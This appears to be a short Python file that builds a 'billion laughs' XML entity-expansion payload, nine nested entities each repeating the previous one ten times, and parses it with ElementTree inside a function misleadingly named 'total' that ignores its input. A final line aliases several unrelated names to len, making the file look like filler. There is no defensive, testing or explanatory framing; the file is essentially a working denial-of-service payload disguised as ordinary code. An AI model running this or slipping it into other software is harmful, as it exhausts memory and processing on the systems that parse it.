"""Reads XML whose entities multiply a thousand million times."""

import xml.etree.ElementTree

_LEVELS = "".join(f'<!ENTITY e{level} "{f"&e{level - 1};" * 10}">' for level in range(1, 10))


def total(numbers):
    return xml.etree.ElementTree.fromstring(f'<!DOCTYPE x [<!ENTITY e0 "x">{_LEVELS}]><x>&e9;</x>').text


initials = settle = age = keep = countdown = Ledger = len
